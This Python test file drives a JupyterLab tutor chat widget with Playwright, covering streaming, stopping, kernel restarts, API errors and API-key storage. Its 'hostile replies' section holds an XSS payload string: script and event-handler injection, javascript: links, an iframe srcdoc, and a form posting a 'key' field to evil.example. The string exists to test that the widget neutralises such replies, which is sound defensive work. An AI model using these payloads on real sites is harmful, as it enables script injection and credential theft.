"""The tutor as a learner meets it: what it shows, that it can be stopped, and that nothing a reply holds can act."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from browser.conftest import until
from fake_api import FakeApi, Reply
from playwright.sync_api import expect

SETUP = """
from tutor.api import Client
from tutor.chat import Chat, ChatState

mode, given = ["{mode}"], []
client = Client(api_key="sk-test", base_url="{url}", max_retries=0)

def go_live(key, remember):
    if not key.startswith("sk-ant-"):
        raise ValueError("Expected a key that begins with sk-ant-.")
    given.append(remember)
    mode[0] = "live"

chat = Chat(
    lesson="streaming", title="Streaming", scope="a reply while it is written.",
    suggestions=["What is a delta?", "What is a ping?", "Is it faster?", "Was it cut off?"],
    client=lambda: client, state=lambda: ChatState(mode[0], "claude-haiku-5-5", 0.14, 1.0),
    go_live=go_live, go_back=lambda: mode.__setitem__(0, "recorded"), lesson_text=lambda: "# Streaming",
)
"""
SLOW = "import os, time\nwhile not os.path.exists('enough'):\n    time.sleep(0.05)"  # until the test says `enough()`
ANSWER = (
    "No. The **last** word comes at the same moment: $T = t_1 + \\frac{n}{v}$.\n\n"
    "- one\n- two with `code`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
    "```python\nfor piece in stream.text_stream:\n    print(piece)\n```\n\nWhat did yours print?"
)


def pieces(text: str, size: int = 8) -> list[str]:
    return re.findall(rf"(?s).{{1,{size}}}", text)


class Tutor:
    """The tutor in a page, by the names that a screen reader gives to its parts."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.region = page.get_by_role("region", name="Tutor").first
        self.log = self.region.get_by_role("log", name="Conversation")
        self.box = self.region.get_by_role("textbox", name="Ask the tutor")
        self.status = self.region.get_by_role("status").first

    def button(self, name: str) -> Any:
        return self.region.get_by_role("button", name=name, exact=True)

    def ask(self, question: str) -> None:
        self.box.fill(question)
        self.box.press("Enter")

    def says(self, words: str) -> None:
        try:
            self.status.filter(has_text=words).wait_for()
        except Exception as late:
            raise AssertionError(f"Expected {words!r}, the tutor shows: {self.region.inner_text()}") from late

    @property
    def reply(self) -> Any:
        return self.log.get_by_role("article", name="Tutor").last


Open = Callable[..., Tutor]


@pytest.fixture
def tutor(lab: Any, open_notebook: Any, run_cell: Any, api: FakeApi) -> Open:
    """`tutor(mode="live")`: a notebook with a tutor that talks to `api`, its first two cells run."""

    def open_it(mode: str = "recorded", name: str = "tutor.ipynb", more: str = "", **context: Any) -> Tutor:
        sources = [SETUP.format(mode=mode, url=api.url) + more, "chat", SLOW, "chat"]
        cells = [nbformat.v4.new_code_cell(source) for source in sources]
        kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
        nbformat.write(nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel}), lab.root / name)
        page = open_notebook(name, **context)
        run_cell(page, 0)
        run_cell(page, 1)
        found = Tutor(page)
        found.button("Ask").wait_for()
        return found

    return open_it


# ---- asking and reading


def test_a_suggestion_streams_an_answer_that_says_who_wrote_it(tutor: Open, api: FakeApi, outside: list[str]) -> None:
    api.replies = [Reply(pieces=pieces(ANSWER), gap=0.005)]
    chat = tutor()
    assert chat.region.get_by_role("group", name="Suggestions").get_by_role("button").count() == 4
    chat.button("What is a delta?").click()
    chat.button("Stop").wait_for()
    chat.says("Reply complete.")
    assert "written in advance" in chat.reply.inner_text()
    assert chat.log.get_by_role("article", name="You").inner_text().split() == ["You", "What", "is", "a", "delta?"]
    assert chat.reply.locator("strong").inner_text() == "last"
    assert chat.reply.locator("td.r").inner_text() == "2"
    assert chat.reply.locator("pre .k").first.inner_text() == "for"
    chat.reply.locator("mjx-container").wait_for(state="attached")
    assert chat.log.get_attribute("aria-live") == "off"
    assert outside == []


def test_enter_sends_and_shift_enter_starts_a_line(tutor: Open, api: FakeApi) -> None:
    chat = tutor()
    chat.box.click()
    chat.page.keyboard.type("add a cell, dd")  # letters that are commands of the notebook
    chat.page.keyboard.press("Shift+Enter")
    chat.page.keyboard.type("second line")
    chat.page.keyboard.press("Control+b")
    assert chat.box.input_value() == "add a cell, dd\nsecond line"
    assert chat.page.locator(".jp-Notebook .jp-Cell").count() == 4
    chat.page.keyboard.press("Enter")
    chat.says("Reply complete.")
    assert chat.box.input_value() == ""
    assert api.requests[0]["messages"][0]["content"][-1]["text"] == "add a cell, dd\nsecond line"


def test_enter_while_composing_does_not_send(tutor: Open, api: FakeApi) -> None:
    chat = tutor()
    chat.box.fill("にほ")
    chat.box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True})
    chat.box.press("n")
    assert api.requests == []
    assert chat.button("Ask").is_visible()


def test_the_whole_tutor_works_without_a_mouse(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(then="silent", pieces=["Half"]), Reply()]
    chat = tutor()
    chat.box.focus()
    chat.page.keyboard.press("Shift+Tab")
    focused = "document.activeElement.textContent"
    assert chat.page.evaluate(focused) == "Was it cut off?"
    chat.page.keyboard.press("Enter")
    chat.reply.get_by_text("Half").wait_for()
    chat.box.focus()
    chat.page.keyboard.press("Escape")
    chat.says("Stopped. What had arrived stays.")
    chat.page.keyboard.type("And?")
    chat.page.keyboard.press("Tab")
    assert chat.page.evaluate(focused) == "Ask"
    chat.page.keyboard.press("Enter")
    chat.says("Reply complete.")


def test_the_conversation_stands_in_every_cell_that_shows_it(tutor: Open, run_cell: Any) -> None:
    chat = tutor()
    run_cell(chat.page, 3)
    regions = chat.page.get_by_role("region", name="Tutor")
    assert regions.count() == 2
    chat.ask("What is a delta?")
    regions.last.get_by_text("Hello.").wait_for()
    regions.last.get_by_role("status").filter(has_text="Reply complete.").wait_for()
    assert regions.last.get_by_role("article").count() == 2


def test_what_was_sent_unfolds_four_ways(tutor: Open) -> None:
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    chat.reply.locator("summary", has_text="≈ 412 tokens in, ≈ 96 out, free").click()
    tab = chat.region.get_by_role("tab", name="JSON")
    tab.wait_for()
    assert '"What is a delta?"' in chat.region.get_by_role("tabpanel", name="JSON").inner_text()
    tab.focus()
    for name, words in [("curl", "curl --no-buffer"), ("httpx", "httpx.stream"), ("SDK", "Anthropic()")]:
        chat.page.keyboard.press("ArrowRight")
        assert chat.page.evaluate("document.activeElement.textContent") == name
        assert words in chat.region.get_by_role("tabpanel", name=name).inner_text()
        assert chat.region.get_by_role("tabpanel").count() == 1
    assert "content_block_delta" in chat.reply.inner_text()


# ---- what goes along with a question


def test_what_goes_along_is_shown_first_and_can_be_switched_off(tutor: Open, api: FakeApi) -> None:
    seen = 'chat.saw_cell("answer = 42")\n'
    seen += 'chat.saw_verdict("assemble", "not yet", "thinking-added", "Sent: 61.", "def f(): ...")'
    chat = tutor("live", more=seen)
    cell = chat.region.get_by_role("checkbox", name="last cell, 1 line")
    assert cell.is_checked()
    chat.region.locator(".with summary").click()
    assert "answer = 42" in chat.region.locator(".with pre").inner_text()
    cell.uncheck()
    assert "answer = 42" not in chat.region.locator(".with pre").inner_text()
    assert "def f(): ..." in chat.region.locator(".with pre").inner_text()
    chat.button("Why was my last answer not accepted?").click()
    chat.says("Reply complete.")
    texts = [block["text"] for block in api.requests[0]["messages"][0]["content"]]
    assert len(texts) == 2
    assert texts[0].startswith('<last_verdict exercise="assemble" feedback="thinking-added">')
    assert texts[1] == "Why was my last answer not accepted?"


def test_a_verdict_changes_the_first_suggestion_while_the_tutor_is_open(
    tutor: Open, type_into_cell: Any, run_cell: Any
) -> None:
    chat = tutor()
    type_into_cell(chat.page, 2, 'chat.saw_verdict("assemble", "not yet", "thinking-added", "", "")')
    run_cell(chat.page, 2)
    chat.button("Why was my last answer not accepted?").wait_for()
    assert chat.region.get_by_role("checkbox", name="send the last verdict: assemble, not yet").is_checked()


# ---- Stop, and a kernel that is busy, gone or reloaded


@pytest.mark.parametrize("text", ["", "Half a "], ids=["before the first word", "in the middle"])
def test_stop_ends_a_silent_stream_at_once(tutor: Open, api: FakeApi, text: str) -> None:
    """On a quiet machine within a tenth of a second: benchmarks/bench_chat.py measures it."""
    api.replies = [Reply(pieces=[text] if text else [], then="silent"), Reply()]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Writing.")
    if text:
        chat.reply.get_by_text("Half a").wait_for()
    took = chat.page.evaluate(
        """async () => {
            const root = document.querySelector(".tutor-chat"), began = performance.now();
            root.querySelector(".stop").click();
            const said = () => root.querySelector(".say").textContent;
            while (!said().startsWith("Stopped")) await new Promise(requestAnimationFrame);
            return performance.now() - began;
        }"""
    )
    assert took < 3_000
    assert api.closed.wait(5), "the connection stayed open"
    chat.button("Ask").wait_for()
    chat.ask("And now?")
    chat.says("Reply complete.")


def test_ask_and_stop_work_while_a_cell_runs(tutor: Open, api: FakeApi, enough: Callable[[], None]) -> None:
    api.replies = [Reply(), Reply(pieces=["Half"], then="silent")]
    chat = tutor()
    start_slow_cell(chat.page)
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    chat.ask("And?")
    chat.reply.get_by_text("Half").wait_for()
    chat.button("Stop").click()
    chat.says("Stopped.")
    assert api.closed.wait(5)
    assert chat.page.evaluate(BUSY), "the cell had ended before the test did"
    enough()
    chat.page.wait_for_function(IDLE)


# The kernel's status says "idle" as soon as it has answered the tutor; the prompt of the cell is what a learner sees.
BUSY = "() => [...document.querySelectorAll('.jp-InputPrompt')].some(prompt => prompt.textContent.startsWith('[*]'))"
IDLE = f"() => !({BUSY})()"


@pytest.fixture
def enough(lab: Any) -> Iterator[Callable[[], None]]:
    """`enough()` lets the slow cell end."""
    file = lab.root / "enough"
    yield file.touch
    file.unlink(missing_ok=True)


def start_slow_cell(page: Any) -> None:
    page.evaluate(
        """() => {
            window.jupyterapp.shell.currentWidget.content.activeCellIndex = 2;
            window.jupyterapp.commands.execute("notebook:run-cell");
        }"""
    )
    page.wait_for_function(BUSY)


@pytest.fixture
def held(lab: Any) -> Iterator[None]:
    """A JupyterLab whose pages ask for no shell of their own, so that a running cell holds the kernel."""
    file = lab.root.parent / "settings" / "@jupyterlab" / "apputils-extension" / "kernels-settings.jupyterlab-settings"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps({"commsOverSubshells": "disabled"}), encoding="utf-8")
    yield
    file.unlink()


def test_where_a_running_cell_holds_the_kernel_the_tutor_says_so(
    held: None, tutor: Open, enough: Callable[[], None]
) -> None:
    chat = tutor()
    start_slow_cell(chat.page)
    chat.ask("What is a delta?")
    chat.says("Waiting for the running cell. Your question is kept.")
    assert chat.box.input_value() == "What is a delta?"
    enough()
    chat.says("Reply complete.")
    assert chat.box.input_value() == ""


def test_without_a_connection_the_tutor_says_so_and_what_to_do(tutor: Open) -> None:
    sockets: list[Any] = []
    cut = threading.Event()

    def through(socket: Any) -> None:
        sockets.append(socket)
        socket.close() if cut.is_set() else socket.connect_to_server()

    chat = tutor(before=lambda page: page.route_web_socket(re.compile("/channels"), through))
    cut.set()
    sockets[-1].close()
    chat.ask("What is a delta?")
    chat.says("No connection to the kernel: choose Kernel > Reconnect to Kernel. Your question is kept.")
    assert chat.box.input_value() == "What is a delta?"
    cut.clear()
    chat.page.evaluate("() => window.jupyterapp.commands.execute('kernelmenu:reconnect-to-kernel')")
    chat.says("Reply complete.")
    assert chat.box.input_value() == ""


def test_after_a_kernel_restart_the_question_is_kept(tutor: Open, run_cell: Any) -> None:
    chat = tutor()
    chat.page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
    chat.page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.status === 'idle'"
    )
    chat.ask("What is a delta?")
    chat.region.get_by_text("The kernel was restarted or has ended.").wait_for()
    assert chat.box.input_value() == "What is a delta?"
    chat.box.press_sequentially(" And why?")
    run_cell(chat.page, 0)
    run_cell(chat.page, 1)
    chat.button("Go live").wait_for()
    expect(chat.box).to_have_value("What is a delta? And why?")
    chat.button("Ask").click()
    chat.says("Reply complete.")


def test_a_stopped_question_that_was_never_taken_stands_once_in_the_box(
    held: None, tutor: Open, api: FakeApi, enough: Callable[[], None]
) -> None:
    chat = tutor()
    start_slow_cell(chat.page)
    chat.ask("What is a delta?")
    chat.says("Waiting for the running cell.")
    chat.button("Stop").click()
    chat.says("Stopped. Your question is kept.")
    enough()
    chat.page.wait_for_function(IDLE)
    chat.page.wait_for_timeout(500)
    assert chat.log.get_by_role("article").count() == 0
    chat.box.press("Enter")
    chat.says("Reply complete.")
    assert len(api.requests) == 1


@pytest.mark.parametrize("how", ["restart", "shutdown"])
def test_a_kernel_that_ends_in_a_reply_gives_the_question_back(tutor: Open, api: FakeApi, how: str) -> None:
    api.replies = [Reply(pieces=["Half"], then="silent")]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.reply.get_by_text("Half").wait_for()
    kernel = "window.jupyterapp.shell.currentWidget.sessionContext.session?.kernel"
    chat.page.evaluate(f"() => {{ {kernel}.{how}() }}")  # waits for no answer
    chat.region.get_by_text("The kernel was restarted or has ended.").wait_for()
    assert chat.box.input_value() == "What is a delta?"
    assert chat.region.locator(".writing").count() == 0
    chat.box.press("Enter")
    chat.says("Not connected.")
    chat.page.wait_for_function(f"() => !{kernel} || {kernel}.status === 'idle'")  # or the session cannot be ended


def test_words_not_yet_sent_survive_a_reload_in_both_places(tutor: Open, run_cell: Any) -> None:
    chat = tutor()
    run_cell(chat.page, 3)
    boxes = chat.page.get_by_role("textbox", name="Ask the tutor")
    boxes.nth(0).fill("in the first")
    boxes.nth(1).fill("in the second")
    chat.page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    chat.page.reload()
    Tutor(chat.page).button("Ask").wait_for()
    expect(boxes.nth(0)).to_have_value("in the first")
    expect(boxes.nth(1)).to_have_value("in the second")


def test_a_reloaded_page_has_the_conversation_again(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=pieces(ANSWER))]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    chat.page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    chat.page.reload()
    again = Tutor(chat.page)
    again.reply.get_by_text("What did yours print?").wait_for()
    assert again.log.get_by_role("article").count() == 2
    again.ask("And?")
    again.says("Reply complete.")


def test_run_all_twice_keeps_the_conversation(open_notebook: Any, run_all: Any) -> None:
    page = open_notebook("01_requests.ipynb")
    run_all(page)
    chat = Tutor(page)
    chat.region.get_by_role("group", name="Suggestions").get_by_role("button").first.click()
    chat.says("Reply complete.")
    answer = chat.reply.locator(".md").inner_text()
    run_all(page)
    again = Tutor(page)
    again.reply.locator(".md p").first.wait_for()
    assert again.reply.locator(".md").inner_text() == answer


def test_a_saved_conversation_goes_on_after_a_restart(tutor: Open, lab: Any, api: FakeApi) -> None:
    api.replies = [Reply(pieces=["A piece of text."]), Reply()]
    chat = tutor()
    assert not chat.button("Load").is_visible()
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    chat.button("Save").click()
    chat.says("Saved beside the notebook, as streaming-conversation.md.")
    try:
        later = tutor(name="later.ipynb")
        later.button("Load").click()
        later.reply.get_by_text("A piece of text.").wait_for()
        assert not later.button("Load").is_visible()
        later.ask("And a ping?")
        later.says("Reply complete.")
        assert [turn["role"] for turn in api.requests[-1]["messages"]] == ["user", "assistant", "user"]
    finally:
        (lab.root / "streaming-conversation.md").unlink()


def test_on_a_slow_link_no_letter_is_lost(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=pieces(ANSWER, 2), gap=0.01)]
    chat = tutor()
    slow = {"offline": False, "latency": 500, "downloadThroughput": 20_000, "uploadThroughput": 5_000}
    chat.page.context.new_cdp_session(chat.page).send("Network.emulateNetworkConditions", slow)
    chat.box.click()
    chat.page.keyboard.type("Every letter of this question, please")
    chat.page.keyboard.press("Enter")
    chat.says("Reply complete.")
    assert api.requests[0]["messages"][0]["content"][-1]["text"] == "Every letter of this question, please"
    assert chat.box.input_value() == ""
    assert chat.reply.locator("p").last.inner_text() == "What did yours print?"


def test_two_notebooks_have_tutors_of_their_own(tutor: Open, api: FakeApi) -> None:
    one = tutor(name="one.ipynb")
    one.ask("What is a delta?")
    one.says("Reply complete.")
    two = tutor(name="two.ipynb")
    assert two.log.get_by_role("article").count() == 0


# ---- when something goes wrong


def test_a_busy_api_is_a_sentence_and_a_button_that_helps(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(status=529, error=("overloaded_error", "Overloaded"))] * 2 + [Reply()]
    chat = tutor("live")
    chat.ask("What is a delta?")
    chat.says("Stopped: the API is busy.")
    assert "The API answered 529 overloaded_error" in chat.reply.inner_text()
    assert chat.region.locator("button.primary:visible").count() == 1
    chat.button("Ask again").click()
    until(lambda: len(api.requests) == 2, "nothing was asked again")
    chat.says("Stopped: the API is busy.")
    chat.button("Ask again").click()
    chat.says("Reply complete.")
    assert chat.log.get_by_role("article").count() == 2


def test_live_any_model_can_be_asked(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(), Reply(status=529, error=("overloaded_error", "Overloaded")), Reply()]
    chat = tutor("live")
    pick = chat.region.get_by_role("combobox", name="Model")
    assert pick.input_value() == "claude-haiku-5-5"
    assert pick.locator("option").first.inner_text() == "claude-haiku-5-5 · per million tokens $0.10 in, $0.50 out"
    pick.select_option("claude-sonnet-5-5")
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    chat.ask("And now?")
    chat.says("Stopped: the API is busy.")
    chat.button("Try claude-opus-5-5 · per million tokens $4.00 in, $20.00 out").click()
    chat.says("Reply complete.")
    assert [request["model"] for request in api.requests] == ["claude-sonnet-5-5"] * 2 + ["claude-opus-5-5"]
    assert pick.input_value() == "claude-opus-5-5"


def test_a_question_that_a_reply_offers_is_asked_with_a_click(tutor: Open, api: FakeApi) -> None:
    offered = {"tutor-source": "none", "tutor-choices": json.dumps(["What does `max_tokens` do?", "<b>What?</b>"])}
    text = "The closest I have:\n\n- What does `max_tokens` do?\n- Something else\n- <b>What?</b>"
    api.replies = [Reply(pieces=[text], headers=offered), Reply()]
    chat = tutor()
    chat.ask("How long is it?")
    chat.says("Reply complete.")
    assert chat.reply.get_by_role("button").all_inner_texts() == ["What does max_tokens do?", "<b>What?</b>"]
    chat.reply.get_by_role("button", name="What does max_tokens do?").click()
    chat.reply.get_by_text("Hello.").wait_for()
    assert api.requests[1]["messages"][-1]["content"][-1]["text"] == "What does max_tokens do?"


def test_without_a_key_there_is_no_model_to_choose(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(status=529, error=("overloaded_error", "Overloaded"))]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Stopped: the API is busy.")
    assert not chat.region.get_by_role("combobox", name="Model").is_visible()
    assert chat.region.get_by_role("button", name="Try").count() == 0


def test_a_cut_reply_stays_and_can_be_continued(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=["Half an answer"], then="cut"), Reply(pieces=["and the rest."])]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Stopped: the reply was cut off.")
    assert "Half an answer" in chat.reply.inner_text()
    chat.button("Continue").click()
    chat.reply.get_by_text("and the rest.").wait_for()
    assert [message["role"] for message in api.requests[1]["messages"]] == ["user", "assistant", "user"]


def test_a_refusal_gives_the_question_back(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=[], stop_reason="refusal")]
    chat = tutor("live")
    chat.ask("What is a delta?")
    chat.says("Stopped: the model declined.")
    chat.button("Ask in other words").click()
    assert chat.box.input_value() == "What is a delta?"


def test_a_wrong_key_leads_to_the_field_for_one(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(status=401, error=("authentication_error", "invalid x-api-key"))]
    chat = tutor("live")
    chat.ask("What is a delta?")
    chat.says("Stopped: the key was not accepted.")
    chat.button("Enter a key").click()
    assert chat.region.get_by_label("API key").is_visible()


def test_from_a_wrong_key_there_is_a_way_back(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(status=401, error=("authentication_error", "invalid x-api-key")), Reply()]
    chat = tutor("live")
    chat.ask("What is a delta?")
    chat.says("Stopped: the key was not accepted.")
    chat.button("Back to written replies").click()
    chat.region.get_by_text("replies written in advance").wait_for()
    assert not chat.button("Back to written replies").is_visible()
    assert chat.button("Go live").is_visible()


def test_cleared_while_a_reply_is_written_it_stays_clear(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=pieces(ANSWER * 3), gap=0.01), Reply()]
    chat = tutor()
    for _ in range(3):
        api.replies[:0] = [api.replies[0]]
        chat.ask("What is a delta?")
        chat.reply.locator(".md p").first.wait_for()
        chat.button("Clear").click()
        chat.button("Ask").wait_for()
        chat.page.wait_for_timeout(300)
        assert chat.log.get_by_role("article").count() == 0


def test_clear_can_be_undone(tutor: Open) -> None:
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    chat.button("Clear").click()
    chat.says("Cleared. Undo Clear brings it back.")
    chat.button("Undo Clear").click()
    chat.says("The conversation is back.")
    chat.reply.get_by_text("Hello.").wait_for()
    assert not chat.button("Undo Clear").is_visible()


def test_a_question_in_the_middle_of_a_reply_is_kept_and_told(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=["Half"], then="silent")]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.reply.get_by_text("Half").wait_for()
    chat.ask("And what is a ping?")
    chat.says("One question at a time. Your words are kept")
    assert chat.box.input_value() == "And what is a ping?"
    chat.button("Stop").click()


def test_stopped_before_its_first_word_a_question_can_be_asked_again(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=[], then="silent"), Reply()]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Writing.")
    chat.button("Stop").click()
    chat.button("Ask again").click()
    chat.reply.get_by_text("Hello.").wait_for()
    assert chat.log.get_by_role("article").count() == 2


def test_half_a_letter_and_a_marker_of_ours_do_no_harm(tutor: Open, api: FakeApi) -> None:
    chat = tutor()
    chat.box.evaluate("(box) => { box.value = 'x @@ y \\ud83d' }")
    chat.button("Ask").click()
    chat.says("Reply complete.")
    assert api.requests[0]["messages"][0]["content"][-1]["text"] == "x @@ y \ufffd"
    chat.reply.locator("summary").click()
    chat.reply.get_by_role("tabpanel").filter(has_text="x @@ y").wait_for()


def test_a_button_that_waits_counts_down(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(status=429, error=("rate_limit_error", "Slow down"), headers={"retry-after": "2"}), Reply()]
    chat = tutor("live")
    chat.ask("What is a delta?")
    chat.region.get_by_role("button", name="Ask again in", disabled=True).wait_for()
    chat.button("Ask again").click()
    chat.says("Reply complete.")


def test_the_keyboard_keeps_its_place_after_a_suggestion_and_escape_stops(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=["Half"], then="silent")]
    chat = tutor()
    chat.button("What is a delta?").click()
    chat.reply.get_by_text("Half").wait_for()
    chat.page.keyboard.press("Escape")
    chat.says("Stopped. What had arrived stays.")


def test_a_restart_is_noticed_without_a_click_and_the_words_wait(tutor: Open, run_cell: Any) -> None:
    chat = tutor()
    chat.box.fill("A question not yet sent")
    chat.page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
    chat.region.get_by_text("The kernel was restarted or has ended.").wait_for()
    run_cell(chat.page, 0)
    run_cell(chat.page, 1)
    again = Tutor(chat.page)
    again.button("Ask").wait_for()
    expect(again.box).to_have_value("A question not yet sent")


# ---- keys, and what is saved


def test_neither_key_nor_conversation_is_in_a_notebook_saved_with_its_widgets(
    tutor: Open, lab: Any, api: FakeApi
) -> None:
    file = lab.root.parent / "settings" / "@jupyter-widgets" / "jupyterlab-manager" / "plugin.jupyterlab-settings"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps({"saveState": True}), encoding="utf-8")
    try:
        api.replies = [Reply(pieces=["The reply that nobody saves."])]
        chat = tutor()
        chat.ask("The question that nobody saves?")
        chat.says("Reply complete.")
        chat.button("Go live").click()
        form = chat.region.get_by_role("form", name="Go live")
        form.get_by_label("API key").fill("nonsense")
        form.get_by_role("button", name="Use this key").click()
        form.get_by_text("Expected a key that begins with sk-ant-.").wait_for()
        assert form.get_by_label("API key").input_value() == ""
        form.get_by_label("API key").fill("sk-ant-secret-of-mine")
        form.get_by_role("button", name="Use this key").click()
        chat.region.get_by_text("live, $0.14 of $1.00").wait_for()
        assert chat.region.locator("[type=password]").input_value() == ""
        chat.page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
        saved = (lab.root / "tutor.ipynb").read_text(encoding="utf-8")
        assert "_esm" in saved
        for secret in ("sk-ant-secret-of-mine", "nobody saves"):
            assert secret not in saved
            assert secret not in html_export(lab.root / "tutor.ipynb")
    finally:
        file.unlink()


def html_export(notebook: Path) -> str:
    from nbconvert import HTMLExporter

    return str(HTMLExporter().from_filename(str(notebook))[0])


def test_escape_leaves_the_field_for_a_key_and_takes_the_key_out_of_it(tutor: Open) -> None:
    chat = tutor()
    chat.button("Go live").click()
    chat.button("Use this key").click()
    chat.region.get_by_text("Paste a key first.").wait_for()
    chat.region.get_by_label("API key").fill("sk-ant-half-a-key")
    chat.region.get_by_label("API key").press("Escape")
    chat.page.wait_for_function("() => document.activeElement.tagName === 'TEXTAREA'")
    assert chat.box.is_visible()
    assert chat.region.locator("[type=password]").input_value() == ""


def test_on_a_lent_computer_a_key_is_warned_about_and_not_remembered(tutor: Open) -> None:
    chat = tutor(more='import os\nos.environ["BINDER_SERVICE_HOST"] = "x"')
    chat.button("Go live").click()
    assert chat.region.get_by_text("This computer is lent to you by Binder: others run it.").is_visible()
    assert chat.region.get_by_label("API key").input_value() == ""
    assert not chat.region.get_by_text("Remember on this computer").is_visible()
    chat.button("Stay with written replies").click()
    assert chat.button("Ask").is_visible()


# ---- hostile replies

PROBE = "window.ran = (window.ran ?? 0) + 1"
HOSTILE = f"""<script>{PROBE}</script><img src=x onerror="{PROBE}"><svg onload="{PROBE}"></svg>
<iframe srcdoc="<script>parent.{PROBE}</script>"></iframe><style>* {{ display: none !important }}</style>

<form action="https://evil.example"><input name="key"><button>Send</button></form>

[one](javascript:{PROBE}) [two](data:text/html;base64,PHNjcmlwdD4=) ![pixel](https://evil.example/p.png)

$\\href{{javascript:{PROBE}}}{{x}}$ $\\style{{position:fixed;inset:0}}{{x}}$ $\\frac{{1}}{{$ $$\\begin{{$$

`code \u202e reversed` \u200bzero\u200bwidth

{"> " * 300}deep quote

{chr(10).join("  " * n + "- level " + str(n) for n in range(60))}

```python
unclosed = "fence"
"""


def test_a_hostile_reply_neither_runs_nor_fetches_nor_restyles(tutor: Open, api: FakeApi, outside: list[str]) -> None:
    api.replies = [Reply(pieces=[*pieces(HOSTILE, 11), "the last words"])]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    shown = chat.reply.inner_text()
    for words in ("<script>", "onerror", "<iframe", "Send</button>", "[one](javascript:", "deep quote", "level 59"):
        assert words in shown
    assert "the last words" in shown
    assert "⟨U+202E⟩" in shown
    assert "zerowidth" in shown
    for tag in (
        "script",
        "img",
        "iframe",
        "style",
        "form",
        "input",
        "button[type=submit]",
        "[onload]",
        "[style*=fixed]",
    ):
        assert chat.reply.locator(f".md {tag}").count() == 0
    assert chat.reply.locator(".md a").count() == 0
    assert chat.page.evaluate("window.ran") is None
    assert chat.page.locator("#jp-top-panel").is_visible()
    assert outside == []


@pytest.mark.parametrize(
    ("text", "last"),
    [("word " * 40_000 + "end", "word end"), ("block\n\n" * 10_000 + "end", "end")],
    ids=["a line of 200 KB", "ten thousand blocks"],
)
def test_a_huge_reply_does_not_freeze_the_page(tutor: Open, api: FakeApi, text: str, last: str) -> None:
    api.replies = [Reply(pieces=pieces(text, 400))]
    chat = tutor()
    chat.page.evaluate(
        """() => {
            window.gap = 0;
            let last = performance.now();
            const tick = now => {
                window.gap = Math.max(window.gap, now - last);
                last = now;
                requestAnimationFrame(tick);
            };
            requestAnimationFrame(tick);
        }"""
    )
    chat.ask("What is a delta?")
    chat.says("Reply complete.")
    assert chat.reply.locator(".md > :last-child").inner_text().endswith(last)
    assert chat.page.evaluate("window.gap") < 3_000


# ---- looks


def test_a_selection_made_while_a_reply_grows_survives(tutor: Open, api: FakeApi) -> None:
    api.replies = [Reply(pieces=["The first paragraph.\n\n", *pieces("more and more words " * 20)], gap=0.02)]
    chat = tutor()
    chat.ask("What is a delta?")
    chat.reply.get_by_text("more and more").wait_for()
    chat.page.evaluate("() => window.getSelection().selectAllChildren(document.querySelector('.tutor-chat .md > p'))")
    chat.says("Reply complete.")
    assert chat.page.evaluate("window.getSelection().toString()") == "The first paragraph."
